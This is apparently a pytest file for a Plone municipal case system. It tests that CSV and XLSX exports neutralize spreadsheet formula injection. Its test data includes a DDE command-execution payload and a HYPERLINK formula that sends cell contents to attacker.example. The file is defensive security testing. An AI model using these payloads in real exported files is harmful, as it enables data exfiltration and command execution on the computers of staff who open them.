"""Exports neutralize spreadsheet formulas: =, +, -, @ at the start of a value become plain text."""

from ezabrze.policy.cases.browser import views as case_browser
from ezabrze.policy.exports import neutralize
from plone import api

import csv
import io
import pytest


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+48 32 373 33 00", "'+48 32 373 33 00"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =cmd|' /C calc'!A0", "'  =cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("Dziura w jezdni", "Dziura w jezdni"),
        ("ZAB/2026/000001", "ZAB/2026/000001"),
        (12, 12),
        (None, None),
    ],
)
def test_neutralize(value, expected):
    assert neutralize(value) == expected


FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"kliknij")'


def test_csv_export_writes_formulas_as_text(make_case, http_request):
    make_case(category=FORMULA)
    with api.env.adopt_user(username="staff-a"):
        body = case_browser.StaffCasesCSV(api.portal.get(), http_request)()
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    categories = [row[2] for row in rows[1:]]
    assert categories == ["'" + FORMULA]


def test_xlsx_export_writes_formulas_as_text(make_case, http_request):
    from openpyxl import load_workbook

    make_case(category=FORMULA)
    with api.env.adopt_user(username="staff-a"):
        body = case_browser.StaffCasesXLSX(api.portal.get(), http_request)()
    sheet = load_workbook(io.BytesIO(body)).active
    cell = sheet.cell(row=2, column=3)
    assert cell.data_type == "s"
    assert cell.value == "'" + FORMULA
